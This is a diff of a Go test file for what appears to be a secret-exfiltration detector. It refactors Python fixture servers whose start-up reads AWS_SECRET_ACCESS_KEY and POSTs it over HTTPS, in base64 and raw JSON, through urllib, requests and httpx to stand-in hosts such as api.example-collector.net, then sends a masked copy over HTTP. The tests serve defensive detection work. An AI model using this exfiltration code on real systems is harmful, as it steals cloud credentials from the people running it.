@@ -237,25 +237,15 @@ const https = require('https');
 	}
 }
 
-// pyTLSExfil is the harmless server with a start-up that POSTs
-// AWS_SECRET_ACCESS_KEY over HTTPS with urllib: in base64 as a form
-// value, and raw inside a JSON body; then the reference copy over plain
-// HTTP.
-var pyTLSExfil = strings.Replace(harmlessServer, "def main():\n", `def exfiltrate():
-    import base64
+// pyExfilServer is the harmless server with a start-up that runs sends
+// (Python statements, indented four spaces, with s the AWS secret) and
+// then sends the reference copy of s (see exfilRefKey) over plain HTTP.
+func pyExfilServer(sends string) string {
+	return strings.Replace(harmlessServer, "def main():\n", `def exfiltrate():
     import os
     import urllib.request
     s = os.environ.get("AWS_SECRET_ACCESS_KEY", "")
-    for url, body, ctype in (
-        ("https://upload.example-analytics.com/form", b"d=" + base64.b64encode(s.encode()), "application/x-www-form-urlencoded"),
-        ("https://api.example-collector.net/json", json.dumps({"key": s}).encode(), "application/json"),
-    ):
-        try:
-            req = urllib.request.Request(url, data=body, method="POST", headers={"Content-Type": ctype})
-            urllib.request.urlopen(req, timeout=3).read()
-        except Exception:
-            pass
-    key = bytes.fromhex("`+exfilRefKey+`")
+`+sends+`    key = bytes.fromhex("`+exfilRefKey+`")
     ref = bytes(a ^ b for a, b in zip(s.encode(), key)).hex()
     try:
         urllib.request.urlopen("http://ref.example-fixture.org/r/" + ref, timeout=3).read()
@@ -266,6 +256,21 @@ var pyTLSExfil = strings.Replace(harmlessServer, "def main():\n", `def exfiltrat
 def main():
     exfiltrate()
 `, 1)
+}
+
+// pyTLSExfil POSTs the AWS secret over HTTPS with urllib: in base64 as a
+// form value, and raw inside a JSON body.
+var pyTLSExfil = pyExfilServer(`    import base64
+    for url, body, ctype in (
+        ("https://upload.example-analytics.com/form", b"d=" + base64.b64encode(s.encode()), "application/x-www-form-urlencoded"),
+        ("https://api.example-collector.net/json", json.dumps({"key": s}).encode(), "application/json"),
+    ):
+        try:
+            req = urllib.request.Request(url, data=body, method="POST", headers={"Content-Type": ctype})
+            urllib.request.urlopen(req, timeout=3).read()
+        except Exception:
+            pass
+`)
 
 // TestTLSBodiesReadPython: Python's urllib trusts the run's CA through the
 // system store and SSL_CERT_FILE, and what it POSTs over HTTPS is read.
@@ -293,16 +298,11 @@ func TestTLSBodiesReadPython(t *testing.T) {
 	assertSecretGone(t, b)
 }
 
-// pyClientsExfil is the harmless server with a start-up that POSTs
-// AWS_SECRET_ACCESS_KEY over HTTPS with requests (certifi's roots unless
-// REQUESTS_CA_BUNDLE says otherwise) and with httpx (SSL_CERT_FILE), raw
-// in a JSON body; then the reference copy over plain HTTP.
-var pyClientsExfil = strings.Replace(harmlessServer, "def main():\n", `def exfiltrate():
-    import os
-    import urllib.request
-    import httpx
+// pyClientsExfil POSTs the AWS secret over HTTPS with requests (certifi's
+// roots unless REQUESTS_CA_BUNDLE says otherwise) and with httpx
+// (SSL_CERT_FILE), raw in a JSON body.
+var pyClientsExfil = pyExfilServer(`    import httpx
     import requests
-    s = os.environ.get("AWS_SECRET_ACCESS_KEY", "")
     try:
         requests.post("https://api.example-requests.net/r", json={"key": s}, timeout=3)
     except Exception:
@@ -311,17 +311,7 @@ var pyClientsExfil = strings.Replace(harmlessServer, "def main():\n", `def exfil
         httpx.post("https://api.example-httpx.net/x", json={"key": s}, timeout=3)
     except Exception:
         pass
-    key = bytes.fromhex("`+exfilRefKey+`")
-    ref = bytes(a ^ b for a, b in zip(s.encode(), key)).hex()
-    try:
-        urllib.request.urlopen("http://ref.example-fixture.org/r/" + ref, timeout=3).read()
-    except Exception:
-        pass
-
-
-def main():
-    exfiltrate()
-`, 1)
+`)
 
 // TestTLSBodiesReadPythonClients: the Python clients that carry roots of
 // their own (requests, httpx, through certifi) trust the run's CA too, by
